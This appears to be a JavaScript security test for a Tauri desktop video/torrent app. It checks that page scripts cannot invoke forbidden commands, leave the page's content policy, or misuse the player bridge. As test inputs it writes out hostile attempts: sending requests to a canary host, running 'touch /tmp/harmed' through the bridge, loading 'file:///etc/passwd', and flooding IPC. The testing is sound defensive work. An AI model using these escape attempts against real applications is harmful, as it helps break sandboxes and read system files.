// What a script of a stranger could do from inside of our windows: it tries every command that the window may not call, and every
// way out that the page's policy shuts.

import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { snapshot } from "./desktop-side.mjs";
import { seedFilm } from "./seeder.mjs";
import { freePort, until } from "./webdriver.mjs";
import { Desktop, drop } from "./window.mjs";

const tree = (path) => new URL(`../../${path}`, import.meta.url);
const json = (path) => JSON.parse(readFileSync(tree(path), "utf8"));

/** The commands of the one list, with the windows that they are for. */
const COMMANDS = [
  ...readFileSync(tree("crates/app/src/commands.rs"), "utf8").matchAll(
    /^ {4}(Owner|Here|Main|Both) (\w+): /gm,
  ),
].map(([, audience, name]) => ({ audience, name }));
/** And those of the framework and its plugins, as the build has written them down. */
const FRAMEWORK = Object.entries(json("src-tauri/gen/schemas/acl-manifests.json")).flatMap(
  ([plugin, manifest]) => {
    const names = Object.values(manifest.permissions ?? {}).flatMap(({ commands }) => commands.allow);
    return [...new Set(names)].map((name) => `plugin:${plugin.replace(/^core:/, "")}|${name}`);
  },
);

let film;
let folder;
let server;
let canary;
let asked;

before(async () => {
  film = await seedFilm();
  // Another address of this computer, which is none of ours.
  canary = createServer((request, response) => {
    asked.push(request.url);
    response.end("window.harmed = 1");
  });
  await new Promise((done) => canary.listen(0, "127.0.0.2", done));
});

after(() => {
  film?.stop();
  canary?.close();
});

/** Runs the steps in the main window and the player's page of an engine, with data of their own. */
async function attacked(engine, steps) {
  asked = [];
  folder = mkdtempSync(join(tmpdir(), "freshet-data-"));
  const port = await freePort();
  server = `http://127.0.0.1:${port}`;
  const args = ["--path", folder, "--port", String(port), "--no-dht", "--allow-private-networks"];
  const desktop = await Desktop.start(args, engine);
  try {
    await steps(desktop);
  } finally {
    await desktop.end();
    rmSync(folder, { recursive: true, force: true });
  }
}

/** What the framework says to each of the commands, from inside of a page. */
const invokeAll = (session, commands) =>
  session.run(
    `
    const ask = (command) => window.__TAURI_INTERNALS__.invoke(command, {}).then(() => "done", String);
    return Promise.all(arguments[0].map(ask));
    `,
    commands,
  );

/** The code with which the program answers a command without its arguments, as the window's page calls it. */
const rpcAll = (session, commands) =>
  session.run(
    `
    const ask = (command) =>
      window.__TAURI_INTERNALS__.invoke("rpc", { command, payload: 7 }).then(() => "done", ({ code }) => code);
    return Promise.all(arguments[0].map(ask));
    `,
    commands,
  );

async function triesTheFramework(session, window) {
  const { permissions, windows } = json(`src-tauri/capabilities/${window}.json`);
  assert.deepEqual(windows, [window]);
  const isAllowed = (command) => {
    const [, plugin, name] = command.match(/^plugin:(.+)\|(.+)$/);
    return permissions.includes(`core:${plugin}:allow-${name.replaceAll("_", "-")}`);
  };
  const others = FRAMEWORK.filter((command) => !isAllowed(command));
  assert.equal(
    FRAMEWORK.length - others.length,
    permissions.length,
    "each permission is a command of the list",
  );
  assert.ok(others.length > 100, `only ${others.length} commands are known`);
  const answers = await invokeAll(session, others);
  const through = others.filter((_, index) => !/not allowed|not found/.test(answers[index]));
  assert.deepEqual(through, []);
}

/** Ways out of a page, all of which its policy shuts; what a script of a stranger would try first. */
async function triesToLeave(session) {
  const home = await session.run("return location.href");
  const address = `http://127.0.0.2:${canary.address().port}`;
  const came = await session.run(
    `
    const away = arguments[0];
    const put = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
    put("script", { src: away + "/script" });
    put("script", { textContent: "window.harmed = 2" });
    put("img", { src: away + "/picture", onerror: null });
    put("iframe", { src: away + "/frame" });
    put("video", { src: away + "/film" });
    put("object", { data: away + "/object" });
    put("link", { rel: "stylesheet", href: away + "/style" });
    put("form", { id: "leaving", action: away + "/form", method: "post" });
    document.getElementById("leaving").submit();
    document.body.setAttribute("onclick", "window.harmed = 3");
    document.body.click();
    try { new Function("window.harmed = 4")(); } catch { /* as it should be */ }
    try { new WebSocket(away.replace("http", "ws")); } catch { /* likewise */ }
    navigator.sendBeacon?.(away + "/beacon");
    window.open(away + "/window");
    location.assign(away + "/elsewhere");
    return fetch(away + "/fetch").then(() => "came through", () => "refused");
    `,
    address,
  );
  assert.equal(came, "refused");
  // What is shut is shut at once; a round through the page is what anything else would have needed.
  await session.run("return new Promise((done) => requestAnimationFrame(() => setTimeout(done, 300)))");
  assert.equal(await session.run("return window.harmed ?? null"), null);
  assert.equal(await session.run("return location.href"), home);
  assert.deepEqual(asked, []);
}

/** The answers to commands over HTTP, as a page would send them there. */
const fetchAll = (session, origin, commands) =>
  session.run(
    `
    const [origin, commands] = arguments;
    const ask = (command) =>
      fetch(origin + "/rpc/" + command, {
        method: "POST",
        headers: { "Content-Type": "application/json", "X-Freshet": "1" },
        body: "7",
      }).then(async (response) => (await response.json()).code, () => "refused");
    return Promise.all(commands.map(ask));
    `,
    origin,
    commands,
  );

test("the main window and our own player window call what is theirs, and nothing leaves them", async () => {
  await attacked("web", async (desktop) => {
    const { session } = desktop;
    await triesTheFramework(session, "main");
    const names = COMMANDS.map(({ name }) => name);
    assert.ok(names.length > 35, `only ${names.length} commands are known`);
    // Its own commands are let in, and end at their arguments.
    assert.deepEqual(
      await rpcAll(session, names),
      names.map(() => "bad_request"),
    );
    assert.deepEqual(await rpcAll(session, ["dance"]), ["bad_request"]);
    // The program's server takes commands of its own pages alone.
    assert.deepEqual(await fetchAll(session, server, ["torrent_add"]), ["refused"]);
    await triesToLeave(session);

    await drop(session, film.magnet);
    const player = await desktop.player();
    await until("the player's page", () => player.run("return document.querySelector('video') !== null"));
    await triesTheFramework(player, "player");
    const expected = COMMANDS.map(({ audience }) =>
      ["Both", "Here"].includes(audience) ? "bad_request" : "forbidden",
    );
    assert.deepEqual(await rpcAll(player, names), expected);
    assert.deepEqual(await fetchAll(player, server, ["torrent_add"]), ["refused"]);
    await triesToLeave(player);
  });
});

test("the film's window plays and can do nothing else", async () => {
  await attacked("libmpv", async (desktop) => {
    await drop(desktop.session, film.magnet);
    const page = await desktop.player();
    await until("the film", () => page.run("return document.querySelector('video')?.currentTime > 0"));
    const origin = await page.run("return location.origin");
    assert.notEqual(origin, server, "its door is another origin than that of the program");

    assert.equal(await page.run("return typeof window.__TAURI_INTERNALS__"), "undefined");
    const names = COMMANDS.map(({ name }) => name);
    const expected = COMMANDS.map(({ audience }) =>
      ["Both", "Here"].includes(audience) ? "bad_request" : "forbidden",
    );
    assert.deepEqual(await fetchAll(page, origin, names), expected);
    assert.deepEqual(await fetchAll(page, server, ["torrent_add", "app_info"]), ["refused", "refused"]);

    // The bridge to the process: a path of another server, a word that it does not know, too much.
    await page.run(
      `
      const film = window.freshetFilm;
      film.ask({ kind: "run", args: ["touch", "/tmp/harmed"] });
      film.ask({ kind: "load", path: arguments[0] + "/film", start_secs: 0 });
      film.ask({ kind: "load", path: "//127.0.0.2/film", start_secs: 0 });
      film.ask({ kind: "load", path: "file:///etc/passwd", start_secs: 0 });
      window.ipc.postMessage("x".repeat(1 << 20));
      `,
      `http://127.0.0.2:${canary.address().port}`,
    );
    await triesToLeave(page);
    const before = await page.run("return document.querySelector('video').currentTime");
    await until(
      "the film that goes on",
      async () => (await page.run("return document.querySelector('video').currentTime")) > before,
    );
    const { torrents, settings } = await snapshot(server);
    assert.deepEqual([torrents.length, settings.theme], [1, "system"]);
  });
});
